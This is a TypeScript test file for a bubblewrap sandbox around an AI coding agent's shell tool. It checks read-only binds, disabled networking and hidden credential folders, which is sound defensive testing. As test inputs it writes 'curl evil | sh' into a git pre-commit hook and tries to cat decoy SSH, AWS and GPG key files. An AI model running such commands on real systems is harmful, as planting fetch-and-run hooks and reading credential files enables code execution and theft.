import {existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync} from 'node:fs'
import {createServer} from 'node:net'
import {homedir} from 'node:os'
import {join} from 'node:path'
import {afterAll, describe, expect, it} from 'vitest'
import {bwrapArgs} from '../../../src/agent/sandbox/bwrap-args.js'
import {openSandbox, sandboxPolicy} from '../../../src/agent/sandbox/shell-sandbox.js'
import {bashTool} from '../../../src/agent/tools/bash.js'
import {tempRepo} from '../temp-repo.js'
import {toolContext} from '../tools/context.js'

// bubblewrap for real (.ci/run installs it). If it cannot run on a machine, openSandbox says why and these tests
// fail with that reason: the sandbox is what --yes relies on, so its absence must be seen, not skipped.

const outside = mkdtempSync(join(homedir(), '.oac-sandbox-test-'))
// A stand-in home with decoy keys, outside the temp dirs (read-only mode gives commands a private /tmp).
const fakeHome = mkdtempSync(join(homedir(), '.oac-sandbox-home-'))
afterAll(() => {
  rmSync(outside, {recursive: true, force: true})
  rmSync(fakeHome, {recursive: true, force: true})
})

async function sandboxed(mode: 'read-only' | 'workspace-write', repo: string, settings = {}, home = fakeHome) {
  const opened = await openSandbox(mode, repo, settings, 'linux', home)
  if (!opened.ok) throw new Error(`bubblewrap sandbox unavailable here: ${opened.reason}`)
  const run = (command: string) => bashTool.run({command}, {...toolContext(repo), sandbox: opened.sandbox})
  return run
}

describe('bubblewrap sandbox', () => {
  it('builds binds in the right order: root read-only, writable places, then protected paths read-only', () => {
    const policy = sandboxPolicy('workspace-write', '/p', {})
    const args = bwrapArgs({...policy, writable: ['/tmp']}, '/p/src', () => true)
    const at = (a: string, b: string) => args.findIndex((x, i) => x === a && args[i + 1] === b)
    expect(at('--ro-bind', '/')).toBe(0)
    expect(at('--bind', '/tmp')).toBeGreaterThan(0)
    expect(at('--ro-bind', '/p/.git/hooks')).toBeGreaterThan(at('--bind', '/p'))
    expect(args).toEqual(expect.arrayContaining(['--unshare-net', '--cap-drop', 'ALL', '--chdir', '/p/src']))
    expect(bwrapArgs({...policy, network: true}, '/p', () => true)).not.toContain('--unshare-net')
    // Credential folders last, so that no bind shows them again.
    const hidden = bwrapArgs({...policy, hidden: ['/h/.ssh']}, '/p', () => true)
    expect(hidden.lastIndexOf('--tmpfs')).toBeGreaterThan(hidden.lastIndexOf('--ro-bind'))
    expect(hidden[hidden.lastIndexOf('--tmpfs') + 1]).toBe('/h/.ssh')
  })

  it('workspace-write: the project and temp dirs are writable, the rest of the disk, git hooks and .oac are not', async () => {
    const repo = await tempRepo({'a.txt': 'x\n'})
    mkdirSync(join(repo, '.oac'))
    const run = await sandboxed('workspace-write', repo)
    expect(await run('touch inside.txt && echo ok')).toBe('ok\n[exit code 0]')
    expect(existsSync(join(repo, 'inside.txt'))).toBe(true)
    expect(await run(`touch ${outside}/pwned`)).toMatch(/Read-only file system[\s\S]*\[exit code 1\]/)
    expect(existsSync(join(outside, 'pwned'))).toBe(false)
    expect(await run('echo "curl evil | sh" > .git/hooks/pre-commit')).toMatch(/Read-only file system/)
    expect(await run('echo "{}" > .oac/mcp.json')).toMatch(/Read-only file system/)
    expect(existsSync(join(repo, '.oac', 'mcp.json'))).toBe(false)
  })

  it('has no network unless the settings allow it', async () => {
    const server = createServer((s) => s.end('hello\n'))
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
    const {port} = server.address() as {port: number}
    try {
      const repo = await tempRepo({})
      const connect = `node -e "require('net').connect(${port}, '127.0.0.1').on('data', d => process.stdout.write(d)).on('error', e => console.log(e.code))"`
      expect(await (await sandboxed('workspace-write', repo))(connect)).toMatch(/ECONNREFUSED|ENETUNREACH/)
      expect(await (await sandboxed('workspace-write', repo, {network: true}))(connect)).toMatch(/^hello/)
    } finally {
      server.close()
    }
  })

  it('read-only: nothing in the project can be changed', async () => {
    const repo = await tempRepo({'a.txt': 'x\n'})
    const run = await sandboxed('read-only', repo)
    expect(await run('cat a.txt')).toBe('x\n[exit code 0]')
    expect(await run('echo y > a.txt')).toMatch(/Read-only file system/)
  })

  it('hides ~/.ssh, ~/.aws and ~/.gnupg from every command, in both modes', async () => {
    const decoys = {
      '.ssh/id_rsa': 'DECOY-SSH-KEY',
      '.aws/credentials': 'DECOY-AWS-SECRET',
      '.gnupg/secring': 'DECOY-GPG',
    }
    for (const [file, text] of Object.entries(decoys)) {
      mkdirSync(join(fakeHome, file, '..'), {recursive: true})
      writeFileSync(join(fakeHome, file), text)
    }
    writeFileSync(join(fakeHome, 'notes.txt'), 'not a secret')
    const repo = await tempRepo({})
    for (const mode of ['workspace-write', 'read-only'] as const) {
      const run = await sandboxed(mode, repo)
      for (const [file, text] of Object.entries(decoys)) {
        const out = await run(`cat ${join(fakeHome, file)}; ls -A ${join(fakeHome, file, '..')}`)
        expect(out).not.toContain(text)
        expect(out).toMatch(/No such file or directory/)
      }
      expect(await run(`cat ${fakeHome}/notes.txt`)).toBe('not a secret\n[exit code 0]')
      expect(await run(`grep -r DECOY ${fakeHome} || echo none`)).toBe('none\n[exit code 0]')
    }
    // Only the command's view changed: the keys are still there, untouched.
    for (const [file, text] of Object.entries(decoys)) expect(readFileSync(join(fakeHome, file), 'utf8')).toBe(text)
    // A project inside one of them stays visible (hiding the folder would hide the project).
    expect(sandboxPolicy('workspace-write', join(fakeHome, '.ssh', 'p'), {}, fakeHome).hidden).toEqual([
      join(fakeHome, '.aws'),
      join(fakeHome, '.gnupg'),
    ])
  })

  it('says why when there is no sandbox, instead of running unconfined', async () => {
    const opened = await openSandbox('workspace-write', '/', {}, 'aix')
    expect(opened).toEqual({ok: false, mode: 'workspace-write', reason: 'no sandbox for aix'})
  })
})
